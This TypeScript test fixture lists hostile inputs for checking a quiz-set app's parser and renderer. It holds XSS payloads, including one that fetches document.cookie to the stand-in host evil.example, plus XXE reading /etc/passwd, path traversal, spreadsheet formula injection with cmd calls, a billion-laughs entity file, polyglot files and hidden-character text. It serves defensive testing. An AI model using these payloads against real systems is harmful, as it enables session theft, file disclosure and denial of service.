/** What somebody who means harm writes where a set has a text. `name` says what it tries. */
export interface HostileText {
  readonly name: string
  readonly text: string
}

/** What they hand in as a file. */
export interface HostileFile {
  readonly name: string
  /** What the game's own reader finds, at least. */
  readonly code: string
  readonly bytes: () => Uint8Array
}

/** Where a script of a hostile text would call; nobody answers there. */
const elsewhere = 'evil.example'

const call = `fetch('https://${elsewhere}/?'+document.cookie)`
const load = `https://${elsewhere}/x.png`

export const hostileTexts: readonly HostileText[] = [
  { name: 'a script', text: `<script>${call}</script>` },
  { name: 'a script from elsewhere', text: `<script src=//${elsewhere}/x.js></script>` },
  { name: 'a picture that fails', text: `<img src=x onerror="${call}">` },
  { name: 'a picture from elsewhere', text: `<img src="${load}">` },
  { name: 'a drawing that loads', text: `<svg/onload=${call}>` },
  {
    name: 'a drawing that animates an address',
    text: `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>press</text></a></svg>`,
  },
  { name: 'a frame', text: `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>` },
  { name: 'an object', text: `<object data="data:text/html,<script>alert(1)</script>"></object>` },
  { name: 'the end of an attribute', text: `" autofocus onfocus=alert(1) x="` },
  { name: 'the end of a quoted attribute', text: `' onmouseover='alert(1)` },
  {
    name: 'the ends of elements that hold text',
    text: `</title></style></textarea></script><script>alert(1)</script>`,
  },
  { name: 'the end of a remark', text: `--><script>alert(1)</script><!--` },
  { name: 'the end of a CDATA section', text: `]]><script>alert(1)</script><![CDATA[` },
  { name: 'another base', text: `<base href="https://${elsewhere}/">` },
  { name: 'a refresh', text: `<meta http-equiv=refresh content="0;url=https://${elsewhere}/">` },
  {
    name: 'a form with a button',
    text: `<form action="https://${elsewhere}/"><button formaction="javascript:alert(1)">Go</button></form>`,
  },
  { name: 'a style from elsewhere', text: `<style>@import url("https://${elsewhere}/x.css")</style>` },
  { name: 'a dialog that is open', text: `<dialog open><a href="javascript:alert(1)">Yes</a></dialog>` },
  {
    name: 'markup that a parser changes: math',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  },
  {
    name: 'markup that a parser changes: noscript',
    text: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  },
  {
    name: 'markup that a parser changes: svg',
    text: `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  },
  { name: 'markup without an end', text: `<img src="${load}?` },
  { name: 'markup in entities', text: `&lt;img src=x onerror=alert(1)&gt;` },
  { name: 'markup in entities twice', text: `&amp;lt;img src=x onerror=alert(1)&amp;gt;` },
  { name: 'markup in numbers', text: `&#60;script&#62;alert(1)&#x3c;/script&#x3e;` },
  { name: 'markup in per cents', text: `%3Cscript%3Ealert(1)%3C/script%3E` },
  { name: 'markup in escapes', text: String.raw`\u003cscript\u003ealert(1)\x3c/script\x3e` },
  { name: 'markup in UTF-7', text: `+ADw-script+AD4-alert(1)+ADw-/script+AD4-` },
  {
    name: 'templates',
    text: `\${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7} [[\${7*7}]]`,
  },
  { name: 'Markdown', text: `[press](javascript:alert(1)) ![x](${load}) <https://${elsewhere}>` },
  {
    name: 'an entity of XML',
    text: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  },
  { name: 'a script as an address', text: 'javascript:alert(document.domain)' },
  { name: 'a script as an address with blanks in it', text: '\u0001 java\tscr\nipt:alert(1)' },
  { name: 'a page as an address', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  {
    name: 'an address in letters that look like others',
    text: 'https://www.\u0430\u0440\u0440\u04CF\u0435.com/',
  },
  {
    name: 'an address that pretends',
    text: `https://school.example@${elsewhere}/set.json#https://school.example`,
  },
  { name: 'an order of letters turned round', text: 'The key is \u202Etxt.exe\u202C or not' },
  {
    name: 'an order of letters turned round and left so',
    text: '\u202E\u2067\u202B\u2066\u202Anever closed',
  },
  { name: 'the end of an isolate', text: 'a\u2069\u2069\u2069\u202Eb\u2066c' },
  {
    name: 'letters that can’t be seen',
    text: 'pay\u200Bpal\u2060\uFEFF\u00AD\u180E\u200E\u061C of the town',
  },
  {
    name: 'words in tags',
    text: `Yes${Array.from('ignore the story', (sign) => String.fromCodePoint(0xe0000 + sign.codePointAt(0)!)).join('')}\u{E007F}`,
  },
  { name: 'half of a pair', text: 'a\uD800b' },
  { name: 'the other half of a pair', text: 'a\uDC00\uD800b' },
  { name: 'a zero', text: 'a\u0000b' },
  { name: 'signs that steer a terminal', text: '\u001B[31mred\u0007\u0008\u007F\u009B2J of the town' },
  { name: 'signs that are none', text: 'a\uFFFE\uFFFF\u{1FFFF}b' },
  { name: 'ends of lines', text: 'one\u2028two\u2029three\u0085four\r\nfive\u000Bsix' },
  { name: 'marks upon marks', text: `e${'\u0301\u0489\u20DD\u0334'.repeat(1_100)} of the town` },
  { name: 'one letter written in two ways', text: 'caf\u00E9 is cafe\u0301, \u212B is \u00C5, \uFB01 is fi' },
  { name: 'a word without an end', text: 'W'.repeat(4_400) },
  { name: 'the widest sign', text: '\uFDFD'.repeat(900) },
  { name: 'families', text: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(120) },
  { name: 'gaps of a sentence', text: '{{count}} {{- x}} {{name, uppercase}} {{{x}}}' },
  { name: 'another sentence', text: '$t(common:yes) $t(findings:idTwice, {"count": 2})' },
  { name: 'the prototype', text: '__proto__' },
  { name: 'a constructor', text: 'constructor' },
  { name: 'a formula', text: `=HYPERLINK("https://${elsewhere}/?"&A1,"press")` },
  { name: 'a formula with a command', text: `@SUM(1+1)*cmd|' /C calc'!A0` },
  { name: 'a formula behind a blank', text: `\t=1+1` },
  { name: 'a formula with a sign', text: `-2+3+cmd|' /C calc'!A0` },
  { name: 'a formula in wide signs', text: '＝1+1' },
  { name: 'marks of a text format', text: '::x:: {=a ~b #c} } { // $CATEGORY: $course$ ANSWER: A' },
  { name: 'a path', text: '../../../../etc/passwd' },
]

const bytesOf = (text: string) => new TextEncoder().encode(text)
/** As if a set went on after it. */
const start = '{"format": "stet-set/1", "id": "x", '

export const hostileFiles: readonly HostileFile[] = [
  {
    name: 'a depth of 100,000 objects',
    code: 'fileTooDeep',
    bytes: () => bytesOf(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
  },
  {
    name: 'a depth of 100,000 lists, left open',
    code: 'fileTooDeep',
    bytes: () => bytesOf('['.repeat(100_000)),
  },
  {
    name: 'a number beyond numbers',
    code: 'wrongType',
    bytes: () => bytesOf(`${start}"title": 1e400}`),
  },
  {
    name: 'a key twice',
    code: 'keyTwice',
    bytes: () => bytesOf(`${start}"title": "a", "title": "<img src=x onerror=alert(1)>"}`),
  },
  {
    name: 'keys of a prototype',
    code: 'fieldUnknown',
    bytes: () =>
      bytesOf(
        `${start}"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "title": "a"}`,
      ),
  },
  {
    name: 'a text of 50 megabytes',
    code: 'fileTooLarge',
    bytes: () => bytesOf(`${start}"title": "${'a'.repeat(50 * 1024 * 1024)}"}`),
  },
  {
    name: 'a million questions',
    code: 'fileTooFull',
    bytes: () => bytesOf(`${start}"questions":[${'{},'.repeat(999_999)}{}]}`),
  },
  {
    name: 'lists with holes, and what is of another kind',
    code: 'wrongType',
    bytes: () =>
      bytesOf(
        `${start}"title": [], "language": 7, "level": {}, "article": [null], "questions": {"0": {}, "length": 9}, "names": "x"}`,
      ),
  },
  {
    name: 'a version of the future',
    code: 'formatNewer',
    bytes: () => bytesOf('{"format": "stet-set/99", "anything": "<script>alert(1)</script>"}'),
  },
  {
    name: 'a file that breaks off',
    code: 'jsonSyntax',
    bytes: () => bytesOf(`${start}"title": "Half of a ti`),
  },
  { name: 'nothing but blanks', code: 'fileEmpty', bytes: () => bytesOf(' \n\t'.repeat(100_000)) },
  {
    name: 'a picture that is a script',
    code: 'jsonSyntax',
    bytes: () => bytesOf(`GIF89a/*${'\u0001'.repeat(60)}*/=1;alert(1)//${start}"title": "a"}`),
  },
  {
    name: 'a picture that is a page',
    code: 'fileNotUtf8',
    bytes: () =>
      Uint8Array.from([
        0x89,
        0x50,
        0x4e,
        0x47,
        0x0d,
        0x0a,
        0x1a,
        0x0a,
        0,
        0,
        0,
        0x0d,
        0x49,
        0x48,
        0x44,
        0x52,
        ...bytesOf('<html><script>alert(1)</script></html>'),
      ]),
  },
  {
    name: 'a page that is a set',
    code: 'jsonSyntax',
    bytes: () => bytesOf(`<!doctype html><script>alert(1)</script><!-- ${start}"title": "a"} -->`),
  },
  {
    name: 'entities that grow',
    code: 'jsonSyntax',
    bytes: () =>
      bytesOf(
        `<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]><quiz>&a19;</quiz>`,
      ),
  },
  {
    name: 'a text of UTF-16',
    code: 'fileUtf16',
    bytes: () =>
      new Uint8Array(Uint16Array.from(Array.from(`\uFEFF${start}`, (sign) => sign.charCodeAt(0))).buffer),
  },
]
